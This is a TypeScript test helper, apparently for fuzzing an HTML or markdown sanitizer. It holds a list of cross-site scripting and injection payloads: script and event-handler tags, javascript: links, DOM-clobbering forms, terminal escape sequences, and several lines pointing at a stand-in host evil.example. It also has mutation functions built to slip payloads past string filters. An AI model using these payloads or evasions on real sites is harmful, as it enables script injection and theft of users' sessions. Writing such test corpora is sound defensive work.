import { corpora } from '../../setup/corpora.ts';
import { stringsOf } from '../../corpora/strings.ts';

/** What sets off an alarm in the page wherever it runs. */
const ALARM = 'alert(1)';

/** A few that are always there: each of another sort, and each would be seen to run. */
const OWN: readonly string[] = [
  `<script>${ALARM}</script>`,
  `"><script>${ALARM}</script>`,
  `</script><script>${ALARM}</script>`,
  `</title></textarea></style><img src=x onerror=${ALARM}>`,
  `<img src=x onerror=${ALARM}>`,
  `" onmouseover="${ALARM}" autofocus onfocus="${ALARM}" x="`,
  `' onfocus='${ALARM}' autofocus='`,
  `<svg onload=${ALARM}>`,
  `<svg><animate onbegin=${ALARM} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ALARM}>`,
  `<details open ontoggle=${ALARM}>`,
  `<iframe srcdoc="<script>parent.${ALARM}</script>">`,
  `<iframe src="javascript:${ALARM}">`,
  `<object data="data:text/html,<script>${ALARM}</script>">`,
  '<embed src="//evil.example/x.swf">',
  `<form action="javascript:${ALARM}"><button autofocus>Go</button></form>`,
  '<form action="//evil.example/" id="body"><input name="cookie"><input name="createElement"></form>',
  '<img name="body"><img name="getElementById"><a id="location" name="forms" href="#">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; nav { display: none }</style>',
  '<div style="position:fixed;inset:0;background:url(//evil.example/x)">over all</div>',
  '<img src="//evil.example/x.png" srcset="//evil.example/y.png 2x">',
  '<video poster="//evil.example/x.png" src="//evil.example/x.mp4" autoplay></video>',
  `[x](javascript:${ALARM})`,
  `[x](<java\nscript:${ALARM}>)`,
  `[x](&#106;avascript:${ALARM})`,
  `![x](javascript:${ALARM})`,
  '![x](//evil.example/x.png)',
  `[x]: javascript:${ALARM}`,
  `javascript:${ALARM}`,
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/x',
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  '<!--><img src=x onerror=alert(1)>-->',
  ']]><img src=x onerror=alert(1)>',
  '\u001b]0;title\u0007\u001b[2J\u009b31m\u202eabc\u2066\r\nForged: line',
];

/** Names that pages and their scripts go by. */
export const NAMES_OF_THE_PAGE: readonly string[] = [
  ...['body', 'head', 'forms', 'images', 'links', 'scripts', 'cookie', 'location', 'domain', 'title', 'URL', 'all'],
  ...['createElement', 'getElementById', 'querySelector', 'querySelectorAll', 'addEventListener', 'append', 'close'],
  ...['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'children', 'parentNode'],
  ...['self', 'top', 'parent', 'window', 'document', 'name', 'status', 'event', 'history', 'navigator', 'fetch'],
  ...['scrollTo', 'scrollY', 'sessionStorage', 'localStorage', 'Worker', 'EventSource', 'URLSearchParams', 'print'],
  ...['page', 'search-words', 'search', 'main', 'nav', 'to-day', 'mood-around', 'until-next', 'search-results'],
];

/** All strings: those of the corpora where they are, ours always. */
export function attackStrings(): readonly string[] {
  const folder = corpora();
  return [...OWN, ...NAMES_OF_THE_PAGE, ...(folder === null ? [] : stringsOf(folder))];
}

/** Changed in ways that get past what looks for a string: always the same for the same place. */
export function mutated(text: string, number: number): string {
  const ways: readonly ((text: string) => string)[] = [
    (one) => one.replace(/[a-z]/gi, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
    (one) => one.replaceAll('<', '<<').replaceAll('>', '>>'),
    (one) => one.replace(/on(\w+)=/gi, '/on$1\n='),
    (one) => one.replaceAll(' ', '\t/'),
    (one) => `<svg><desc>${one}</desc></svg>`,
    (one) => `<math><annotation-xml encoding="text/html">${one}`,
    (one) => `<noscript>${one}</noscript>`,
    (one) => `<b title="${one}">${one}</b>`,
    (one) => `**${one}** [${one}](${one} "${one}")`,
    (one) => one.replaceAll('script', 'scr\u0000ipt').replaceAll(':', '&colon;'),
    (one) => one.slice(Math.floor(one.length / 2)) + one.slice(0, Math.floor(one.length / 2)),
    (one) => `<table><td>${one}<table>${one}`,
  ];
  return (ways[number % ways.length] ?? String)(text);
}
